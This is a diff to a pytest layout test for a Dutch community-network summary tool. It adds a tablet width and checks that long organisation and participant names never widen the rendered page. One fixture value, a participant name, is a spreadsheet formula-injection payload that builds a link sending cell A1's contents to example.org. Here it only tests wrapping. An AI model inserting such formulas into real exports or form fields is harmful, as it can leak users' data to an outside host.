@@ -20,7 +20,7 @@ from wijksessie.domain.summary import build_summary
 from wijksessie.render.figures import network_figures
 from wijksessie.render.html import to_html
 
-PHONE, DESKTOP = 390, 1280
+PHONE, TABLET, DESKTOP = 390, 768, 1280
 
 
 @pytest.fixture(scope="module")
@@ -47,10 +47,22 @@ def measured(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[int, di
     pages["lange woorden"] = to_html(
         build_summary(network, today=TODAY, with_contact=True), network_figures(network)
     )
-    return {name: browser.measure(page, (PHONE, DESKTOP), folder) for name, page in pages.items()}
+    network = demo_network(today=TODAY)
+    network.organisations[1].name = (
+        "Stichting Samenwerkende Maatschappelijke Organisaties voor Welzijn, Zorg en Participatie"
+        " in de Gemeente Westerkwartier-Noord en de omliggende kernen"
+    )
+    network.participants[1].name = '=HYPERLINK("http://example.org/?x="&A1,"klik")'
+    pages["lange namen"] = to_html(
+        build_summary(network, today=TODAY, with_contact=True), network_figures(network)
+    )
+    return {
+        name: browser.measure(page, (PHONE, TABLET, DESKTOP), folder)
+        for name, page in pages.items()
+    }
 
 
-@pytest.mark.parametrize("page", ["alles", "gerda", "lange woorden"])
+@pytest.mark.parametrize("page", ["alles", "gerda", "lange woorden", "lange namen"])
 def test_a_phone_needs_no_sideways_scrolling(measured: dict, page: str) -> None:
     phone = measured[page][PHONE]
     assert phone["width"] == PHONE
@@ -72,6 +84,17 @@ def test_every_commitment_cell_is_on_a_phone_screen_with_its_label(
 def test_pictures_are_legible_or_in_words_on_a_phone(measured: dict) -> None:
     smallest = measured["alles"][PHONE]["smallestSvgText"]
     assert smallest is None or smallest >= 9
+
+
+@pytest.mark.parametrize("page", ["lange woorden", "lange namen"])
+@pytest.mark.parametrize("width", [TABLET, DESKTOP])
+def test_a_long_name_never_widens_the_page(measured: dict, page: str, width: int) -> None:
+    """A long organisation's name in a coalition's chip (which did not wrap), or a typed
+    formula with no space in a table cell, made the page scroll sideways at 768 px, and made
+    Chromium shrink every printed page to fit the widest (the paper's rules are these)."""
+    figures = measured[page][width]
+    assert figures["scrollWidth"] <= width, figures["outside"][:5]
+    assert figures["outside"] == []
 
 
 def test_the_desktop_page_keeps_its_tables_and_pictures(measured: dict) -> None:
